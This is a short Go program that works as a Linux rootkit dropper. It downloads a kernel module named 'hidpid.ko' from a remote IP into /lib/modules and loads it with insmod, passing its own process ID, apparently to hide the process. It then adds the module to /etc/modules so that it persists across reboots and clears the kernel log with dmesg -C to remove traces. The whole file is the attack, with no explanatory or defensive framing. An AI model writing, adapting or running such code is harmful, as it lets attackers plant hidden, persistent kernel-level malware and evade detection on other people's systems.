package main

import (
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
)

func fetch(url, dst string) error {
	r, err := http.Get(url)
	if err != nil {
		return err
	}
	defer r.Body.Close()
	f, err := os.Create(dst)
	if err != nil {
		return err
	}
	defer f.Close()
	_, err = io.Copy(f, r.Body)
	return err
}

func main() {
	rel, _ := exec.Command("uname", "-r").Output()
	fmt.Print("kernel ", string(rel))
	dst := "/lib/modules/hidpid.ko"
	if err := fetch("http://192.0.2.119/hidpid.ko", dst); err != nil {
		fmt.Println(err)
		return
	}
	exec.Command("insmod", dst, fmt.Sprintf("pid=%d", os.Getpid())).Run()
	f, _ := os.OpenFile("/etc/modules", os.O_APPEND|os.O_WRONLY, 0o644)
	fmt.Fprintln(f, "hidpid")
	f.Close()
	exec.Command("dmesg", "-C").Run()
}
